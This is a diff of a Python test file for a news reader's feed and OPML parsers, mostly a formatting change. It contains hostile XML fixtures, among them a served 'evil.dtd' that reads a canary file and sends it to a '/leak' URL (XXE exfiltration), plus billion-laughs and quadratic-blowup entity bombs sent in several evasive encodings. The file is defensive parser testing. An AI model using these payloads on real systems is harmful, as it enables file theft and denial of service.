@@ -22,12 +22,12 @@ import time
 from pathlib import Path
 
 import pytest
-
 from support.loopback import LoopbackServer
+from support.paths import FIXTURE_ROOT
+
 from newsreader.cli import main
 from newsreader.sources.feeds import FeedError, parse_feed
 from newsreader.sources.opml import OpmlError, read_opml
-from support.paths import FIXTURE_ROOT
 
 FIXTURES = FIXTURE_ROOT / "hostile"
 SECRET = "CANARY-7f3a9c-do-not-leak"
@@ -59,7 +59,7 @@ def attack(name: str, canary: Path, server: LoopbackServer) -> bytes:
     server.static(
         "/evil.dtd",
         f'<!ENTITY fromdtd SYSTEM "file://{canary}">\n'
-        f'<!ENTITY % all "<!ENTITY send SYSTEM \'{server.url("/leak")}?%file;\'>">\n%all;\n',
+        f"<!ENTITY % all \"<!ENTITY send SYSTEM '{server.url('/leak')}?%file;'>\">\n%all;\n",
         content_type="application/xml-dtd",
     )
     return text.replace("@CANARY@", str(canary)).replace("@SERVER@", server.url("")).encode("utf-8")
@@ -118,12 +118,22 @@ def _as_utf7(text: str) -> bytes:
 
 
 ENCODINGS = {
-    "utf-16": lambda text: text.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="utf-16"?>').encode("utf-16"),
-    "utf-16-be-no-bom": lambda text: text.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="utf-16be"?>').encode("utf-16-be"),
-    "utf-32": lambda text: text.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="utf-32"?>').encode("utf-32"),
+    "utf-16": lambda text: text.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="utf-16"?>').encode(
+        "utf-16"
+    ),
+    "utf-16-be-no-bom": lambda text: text.replace(
+        '<?xml version="1.0"?>', '<?xml version="1.0" encoding="utf-16be"?>'
+    ).encode("utf-16-be"),
+    "utf-32": lambda text: text.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="utf-32"?>').encode(
+        "utf-32"
+    ),
     "utf-7": lambda text: _as_utf7(text.replace('<?xml version="1.0"?>', '<?xml version="1.0"?>')),
-    "ebcdic-cp037": lambda text: text.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="cp037"?>').encode("cp037"),
-    "ebcdic-cp500": lambda text: text.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="cp500"?>').encode("cp500"),
+    "ebcdic-cp037": lambda text: text.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="cp037"?>').encode(
+        "cp037"
+    ),
+    "ebcdic-cp500": lambda text: text.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="cp500"?>').encode(
+        "cp500"
+    ),
 }
 
 
@@ -229,10 +239,12 @@ def test_attacks_in_a_memory_limited_subprocess(tmp_path, canary, server) -> Non
     """Under a 1 GB address-space limit and a timeout: a clear error, no MemoryError, no traceback."""
     home = tmp_path / "home"
     paths = []
-    for name, body in (("laughs.xml", attack("xml-billion-laughs.rss", canary, server)),
-                       ("quadratic.xml", quadratic_blowup()),
-                       ("laughs-utf7.xml", _as_utf7(attack("xml-billion-laughs.rss", canary, server).decode())),
-                       ("subs.opml", attack("xml-billion-laughs.opml", canary, server))):
+    for name, body in (
+        ("laughs.xml", attack("xml-billion-laughs.rss", canary, server)),
+        ("quadratic.xml", quadratic_blowup()),
+        ("laughs-utf7.xml", _as_utf7(attack("xml-billion-laughs.rss", canary, server).decode())),
+        ("subs.opml", attack("xml-billion-laughs.opml", canary, server)),
+    ):
         path = tmp_path / name
         path.write_bytes(body)
         paths.append(path)
